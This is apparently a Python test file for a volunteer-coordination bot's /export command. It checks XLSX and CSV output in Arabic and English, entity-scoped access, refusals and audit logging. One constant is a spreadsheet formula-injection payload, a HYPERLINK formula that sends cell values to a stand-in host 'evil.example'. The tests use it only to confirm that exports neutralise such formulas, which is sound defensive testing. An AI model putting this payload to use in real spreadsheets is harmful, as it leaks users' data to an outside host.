"""/export as a command: the datasets, XLSX or CSV, opened with openpyxl and csv in both
languages; representatives get only their own entity's needs and rosters; every export is
audit-logged; volunteers are refused."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

from openpyxl import load_workbook

from tests.factories import (
    create_assignment,
    create_entity,
    create_need,
    create_user,
    create_volunteer,
)
from tests.harness import BotHarness

COORDINATOR_AR = 720
REP_A, REP_B = 731, 732
HYPERLINK = '=HYPERLINK("https://evil.example/"&B2&C2,"Open roster")'


async def seed(bot: BotHarness) -> dict[str, Any]:
    for uid, name in ((201, "Volunteer Alpha"), (202, "متطوع باء"), (203, "Volunteer Gamma")):
        await create_volunteer(bot.db, uid, full_name=name, phone=f"+9665000002{uid % 100:02d}")
    crescent = await create_entity(bot.db, name_ar="الهلال الأحمر", name_en="Red Crescent", reps=(REP_A,))
    society = await create_entity(bot.db, name_ar="جمعية هدية", name_en="Hadiya Society", reps=(REP_B,))
    today = bot.clock.now().date()
    _need_a, shifts_a = await create_need(bot.db, crescent, first_day=today + timedelta(days=1), days=2,
                                         title=HYPERLINK, site_name="@Quba gate")
    _need_b, shifts_b = await create_need(bot.db, society, first_day=today + timedelta(days=1),
                                         title="Gift packs at the airport", site_name="Airport")
    await create_assignment(bot.db, shifts_a[0], 201)
    await create_assignment(bot.db, shifts_a[0], 202)
    await create_assignment(bot.db, shifts_b[0], 203)
    await create_assignment(bot.db, shifts_b[0], 201, status="declined")
    await create_user(bot.db, COORDINATOR_AR, role="coordinator", first_name="هدى", locale="ar")
    return {"a": crescent, "b": society, "shifts_a": shifts_a, "shifts_b": shifts_b}


def document_of(calls: list[Any]) -> tuple[str, bytes, str]:
    document = next(c for c in calls if c.method == "sendDocument")
    filename, content = next(iter(document.files.values()))
    return filename, content, document.params.get("caption", "")


def sheet_rows(content: bytes, index: int = 0) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(content))
    return list(book.worksheets[index].iter_rows(values_only=True))


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


async def exports(bot: BotHarness) -> list[dict[str, Any]]:
    rows = await bot.db.fetchall("SELECT actor_id, target_id, details FROM audit_log WHERE action = 'export'"
                                 " ORDER BY id")
    return [{"actor": r["actor_id"], "dataset": r["target_id"], **json.loads(r["details"])} for r in rows]


async def test_the_menu_offers_every_dataset_in_both_formats(bot: BotHarness) -> None:
    await seed(bot)
    [menu] = await bot.command(bot.admin, "/export")
    data = [d for _label, d in menu.buttons]
    for dataset in ("volunteers", "needs", "assignments", "hours", "trainings", "audit"):
        assert f"exp:f:{dataset}:xlsx" in data and f"exp:f:{dataset}:csv" in data
    calls = await bot.press(bot.admin, "exp:f:trainings:xlsx")
    book = load_workbook(io.BytesIO(document_of(calls)[1]))
    assert book.sheetnames == ["Trainings", "Qualifications"]
    assert [a["dataset"] for a in await exports(bot)] == ["trainings"]  # the menu alone exports nothing


async def test_each_dataset_opens_and_is_audited(bot: BotHarness) -> None:
    await seed(bot)
    expected_rows = {"volunteers": 3, "needs": 4, "assignments": 4, "hours": 3}
    for dataset, count in expected_rows.items():
        for file_format in ("xlsx", "csv"):
            calls = await bot.press(bot.admin, f"exp:f:{dataset}:{file_format}")
            filename, content, caption = document_of(calls)
            assert filename.endswith(f".{file_format}") and dataset in filename
            rows = sheet_rows(content) if file_format == "xlsx" else csv_rows(content)
            assert len(rows) == 1 + count, (dataset, file_format, rows)
            assert f"{count} rows" in caption
    audit = await exports(bot)
    assert [(a["dataset"], a["format"], a["rows"]) for a in audit] == [
        (d, f, n) for d, n in expected_rows.items() for f in ("xlsx", "csv")]
    assert all(a["actor"] == 1 for a in audit)
    # The audit dataset holds those exports, in words.
    calls = await bot.press(bot.admin, "exp:f:audit:csv")
    rows = csv_rows(document_of(calls)[1])
    assert len(rows) == 1 + len(audit)
    assert all("exported a spreadsheet" in " ".join(row) for row in rows[1:])


async def test_needs_with_rosters_in_english(bot: BotHarness) -> None:
    seeded = await seed(bot)
    calls = await bot.command(bot.admin, "/export needs")
    book = load_workbook(io.BytesIO(document_of(calls)[1]))
    assert book.sheetnames == ["Rosters", "Shifts"]
    rosters = list(book["Rosters"].iter_rows(values_only=True))
    header = rosters[0]
    name, status = header.index("Full name"), header.index("Status")
    on_a = [r for r in rosters[1:] if r[0] == seeded["shifts_a"][0]]
    assert {r[name] for r in on_a} == {"Volunteer Alpha", "متطوع باء"}
    assert {r[status] for r in on_a} == {"accepted"}
    empty = [r for r in rosters[1:] if r[0] == seeded["shifts_a"][1]]
    assert len(empty) == 1 and empty[0][name] is None  # a shift nobody took yet
    assert "Volunteer Alpha" not in {r[name] for r in rosters[1:] if r[0] == seeded["shifts_b"][0]}  # declined
    # A title typed as a formula stays text.
    sheet = book["Rosters"]
    cell = next(c for row in sheet.iter_rows(min_row=2) for c in row if c.value == HYPERLINK)
    assert cell.data_type == "s"
    assert "Starts at (Hijri)" in header


async def test_csv_keeps_a_formula_title_as_text(bot: BotHarness) -> None:
    await seed(bot)
    calls = await bot.press(bot.admin, "exp:f:needs:csv")
    rows = csv_rows(document_of(calls)[1])
    titles = {row[rows[0].index("Title")] for row in rows[1:]}
    assert "'" + HYPERLINK in titles and HYPERLINK not in titles
    sites = {row[rows[0].index("Site")] for row in rows[1:]}
    assert "'@Quba gate" in sites


async def test_arabic_export_reads_in_arabic(bot: BotHarness) -> None:
    await seed(bot)
    huda = bot.user(COORDINATOR_AR, "هدى", "ar")
    [menu] = await bot.command(huda, "/export")
    assert "Excel" in menu.text and "XLSX" in menu.text
    labels = [label for label, _d in menu.buttons]
    assert "📗 الاحتياجات والمناوبات مع قوائم المتطوعين" in labels
    calls = await bot.press(huda, "exp:f:needs:xlsx")
    book = load_workbook(io.BytesIO(document_of(calls)[1]))
    assert book.worksheets[0].sheet_view.rightToLeft
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert "الاسم الكامل" in rows[0] or any("الاسم" in str(h) for h in rows[0])
    statuses = {r[rows[0].index(next(h for h in rows[0] if h == "الحالة"))] for r in rows[1:]}
    assert "accepted" not in statuses and any(s for s in statuses)
    entity_column = next(h for h in rows[0] if h == "الجهة")
    assert "الهلال الأحمر" in {r[rows[0].index(entity_column)] for r in rows[1:]}
    calls = await bot.press(huda, "exp:f:hours:csv")
    rows = csv_rows(document_of(calls)[1])
    assert any("ساعات" in h for h in rows[0])


async def test_a_representative_exports_only_their_entitys_needs_and_rosters(bot: BotHarness) -> None:
    seeded = await seed(bot)
    rep = bot.user(REP_A, "Rep", "en")
    [menu] = await bot.command(rep, "/export")
    assert [d for _l, d in menu.buttons] == ["exp:f:needs:xlsx", "exp:f:needs:csv"]
    calls = await bot.press(rep, "exp:f:needs:xlsx")
    book = load_workbook(io.BytesIO(document_of(calls)[1]))
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        shift_ids = {r[0] for r in rows[1:]}
        assert shift_ids == set(seeded["shifts_a"]), sheet.title
        assert not any("Hadiya" in str(v) or "Gift packs" in str(v) for r in rows for v in r)
    rows = csv_rows(document_of(await bot.press(rep, "exp:f:needs:csv"))[1])
    assert {int(r[0]) for r in rows[1:]} == set(seeded["shifts_a"])
    assert "Volunteer Gamma" not in str(rows)
    audit = await exports(bot)
    assert [(a["actor"], a["dataset"], a["entities"]) for a in audit] == [
        (REP_A, "needs", [seeded["a"]]), (REP_A, "needs", [seeded["a"]])]

    # Every other dataset is refused, typed or pressed, and nothing is sent or logged.
    for dataset in ("volunteers", "assignments", "hours", "trainings", "audit"):
        calls = await bot.press(rep, f"exp:f:{dataset}:xlsx")
        assert [c.method for c in calls] == ["answerCallbackQuery"], dataset
        assert calls[0].params["show_alert"] is True
        calls = await bot.command(rep, f"/export {dataset} csv")
        assert [c.method for c in calls] == ["sendMessage"] and calls[0].text.startswith("Sorry")
    assert len(await exports(bot)) == 2


async def test_a_former_representative_gets_nothing(bot: BotHarness) -> None:
    await seed(bot)
    async with bot.db.transaction() as tx:
        await tx.execute("UPDATE entity_members SET removed_at = '2026-01-01T00:00:00+00:00' WHERE user_id = ?",
                         (REP_B,))
    calls = await bot.command(bot.user(REP_B, "Rep", "en"), "/export")
    assert [c.method for c in calls] == ["sendMessage"] and "not a representative" in calls[0].text
    calls = await bot.press(bot.user(REP_B, "Rep", "en"), "exp:f:needs:xlsx")
    assert [c.method for c in calls] == ["answerCallbackQuery"]
    assert await exports(bot) == []


async def test_volunteers_are_refused(bot: BotHarness) -> None:
    await seed(bot)
    volunteer = bot.user(201, "Volunteer", "en")
    calls = await bot.command(volunteer, "/export")
    assert [c.method for c in calls] == ["sendMessage"] and calls[0].text.startswith("Sorry")
    for data in ("exp:f:needs:xlsx", "exp:f:volunteers:csv"):
        calls = await bot.press(volunteer, data)
        assert [c.method for c in calls] == ["answerCallbackQuery"]
        assert calls[0].params["text"].startswith("Sorry")
    assert await exports(bot) == []
